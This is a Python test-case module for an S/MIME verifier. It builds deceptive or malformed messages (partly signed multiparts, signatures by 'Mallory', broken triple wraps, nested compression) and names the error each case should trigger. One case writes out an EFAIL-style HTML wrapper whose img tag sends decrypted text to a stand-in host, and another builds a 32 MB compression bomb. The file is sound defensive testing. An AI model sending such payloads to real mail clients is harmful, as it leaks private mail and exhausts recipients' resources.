"""Layers in the wrong order, and layers that wrap a part of the message and not all of it."""

from __future__ import annotations

import zlib
from collections.abc import Callable

from ... import oids
from ...asn1 import ber
from ...asn1.content_info import content_info
from ...cms import compressed_data
from ...smime.wrap import COMPRESSED, SIGNED, pkcs7_mime
from .case import Case
from .craft import (
    MALLORY,
    OTHER_TEXT,
    TEXT,
    People,
    flip,
    mime_of,
    mixed,
    signature_part,
)

_ERRANT = ("smime.unsigned",)
_HTML = b"Content-Type: text/html; charset=us-ascii\r\n\r\n<p>pay mallory</p>\r\n"
_MANY = 60
_BOMB = 32 << 20


def _clear(p: People) -> bytes:
    return p.clear(TEXT, signature_part(p.signed(detached=True)))


def _part(p: People) -> bytes:
    return mime_of(_clear(p))


def _message(p: People) -> bytes:
    return b"Content-Type: message/rfc822\r\n\r\n" + _clear(p)


def _in(
    *parts: Callable[[People], bytes] | bytes, subtype: bytes = b"mixed"
) -> Callable[[People], bytes]:
    def make(p: People) -> bytes:
        made = [one if isinstance(one, bytes) else one(p) for one in parts]
        return p.header() + mixed(*made, subtype=subtype)

    return make


def _attached(p: People) -> bytes:
    file = b'Content-Disposition: attachment; filename="smime.p7m"\r\n'
    return p.header() + mixed(OTHER_TEXT, file + pkcs7_mime(SIGNED, p.signed()))


def _sealed_inside(p: People) -> bytes:
    return p.envelope(pkcs7_mime(SIGNED, p.signed()))


def _signed_by_mallory(p: People) -> bytes:
    """She has put her signature around what was encrypted, in place of Alice's."""
    return p.opaque(p.signed(p.envelope(TEXT), p.mallory), MALLORY)


def _triple_mallory(p: People) -> bytes:
    return p.opaque(p.signed(_sealed_inside(p), p.mallory), MALLORY)


def _triple_inner_broken(p: People) -> bytes:
    inside = p.envelope(pkcs7_mime(SIGNED, flip(p.signed(), -1)))
    return p.opaque(p.signed(inside))


def _triple_outer_broken(p: People) -> bytes:
    return p.opaque(flip(p.signed(_sealed_inside(p)), -1))


def _twice(p: People, inner: bytes) -> bytes:
    return p.opaque(p.signed(pkcs7_mime(SIGNED, inner)))


def _nested(p: People) -> bytes:
    entity = TEXT
    for _ in range(_MANY):
        entity = pkcs7_mime(COMPRESSED, compressed_data.compress(entity))
    return p.header() + entity


def _bomb(p: People) -> bytes:
    text = zlib.compress(b"Content-Type: text/plain\r\n\r\n" + b" " * _BOMB, 9)
    inside = ber.sequence(ber.oid(oids.DATA), ber.context(0, ber.octet_string(text)))
    parts = [ber.integer(0), ber.sequence(ber.oid(oids.ZLIB)), inside]
    return p.header() + pkcs7_mime(COMPRESSED, content_info(oids.COMPRESSED_DATA, parts))


def _mislabelled(p: People) -> bytes:
    return p.header() + pkcs7_mime("enveloped-data", p.signed())


CASES = (
    Case(
        "unsigned",
        "nobody signed it",
        "RFC 8551 3.5",
        lambda p: p.header() + TEXT,
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "part-behind-text",
        "the signed part stands behind a text that nobody signed",
        "RFC 9787 6.2.1; Johnny 03-mime",
        _in(OTHER_TEXT, _part),
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "part-before-text",
        "a text that nobody signed stands behind the signed part, as a mailing list's footer does",
        "RFC 9787 6.2.1",
        _in(_part, OTHER_TEXT),
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "part-of-alternative",
        "the signed part is one of two alternatives, of which the other is shown",
        "RFC 9787 6.2.1; Johnny 03-mime",
        _in(_part, _HTML, subtype=b"alternative"),
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "part-related",
        "the signed part hangs at an HTML text that nobody signed",
        "RFC 9787 6.2.1; Johnny 03-mime",
        _in(_HTML, _part, subtype=b"related"),
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "part-alone",
        "the signed part is the only one of a multipart",
        "RFC 9787 6.2.1",
        _in(_part),
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "message-attached",
        "a signed message is attached to one that nobody signed",
        "RFC 9787 6.2.1",
        _in(OTHER_TEXT, _message),
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "message-in-digest",
        "a signed message stands in a digest",
        "RFC 2046 5.1.5, RFC 9787 6.2.1",
        lambda p: p.header() + mixed(b"\r\n" + _clear(p), subtype=b"digest"),
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "file-attached",
        "smime.p7m is attached to a text that nobody signed",
        "RFC 9787 6.2.1",
        _attached,
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "encrypted-part",
        "an encrypted part stands behind a text: to answer would quote it (covert content)",
        "RFC 9787 6.2.2; Re: What's Up Johnny? (2019)",
        _in(OTHER_TEXT, _sealed_inside),
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "efail-direct",
        "HTML around an encrypted part would send its text away",
        "EFAIL (2018) 3; RFC 8551 6",
        _in(
            b'Content-Type: text/html\r\n\r\n<img src="http://evil.invalid/?',
            _sealed_inside,
            b'Content-Type: text/html\r\n\r\n">',
        ),
        _ERRANT,
        summary="unprotected",
    ),
    Case(
        "signature-outside",
        "somebody has signed what was encrypted, and is no author by that",
        "RFC 8551 3.7",
        _signed_by_mallory,
        ("smime.signature-outside",),
    ),
    Case(
        "triple-wrap-mallory",
        "the outer signature and the From are of somebody else than the inner signature",
        "RFC 2634 1.1, RFC 8550 3",
        _triple_mallory,
        ("pki.address.mismatch", "smime.signature-outside"),
    ),
    Case(
        "triple-wrap-inner-broken",
        "the outer signature is good, the inner one is broken",
        "RFC 2634 1.1",
        _triple_inner_broken,
        ("cms.signature.invalid", "smime.signature-outside"),
    ),
    Case(
        "triple-wrap-outer-broken",
        "the inner signature is good, the outer one is broken",
        "RFC 2634 1.1",
        _triple_outer_broken,
        ("cms.signature.invalid",),
    ),
    Case(
        "signed-twice",
        "nothing: signed, and signed again",
        "RFC 8551 3.7",
        lambda p: _twice(p, p.signed()),
    ),
    Case(
        "signed-twice-inner-broken",
        "signed, and signed again, the inner signature broken",
        "RFC 8551 3.7",
        lambda p: _twice(p, flip(p.signed(), -1)),
        ("cms.signature.invalid",),
    ),
    Case(
        "mislabelled",
        "smime-type says enveloped-data, and it is signed-data",
        "RFC 8551 3.2.2",
        _mislabelled,
    ),
    Case(
        "layers-without-end",
        f"{_MANY} layers of compression, one in the other",
        "RFC 8551 3.7",
        _nested,
        ("smime.unreadable",),
    ),
    Case(
        "compression-bomb",
        "32 MB of blanks in 32 KB",
        "RFC 8551 6, RFC 3274 2",
        _bomb,
        ("smime.unreadable",),
    ),
)
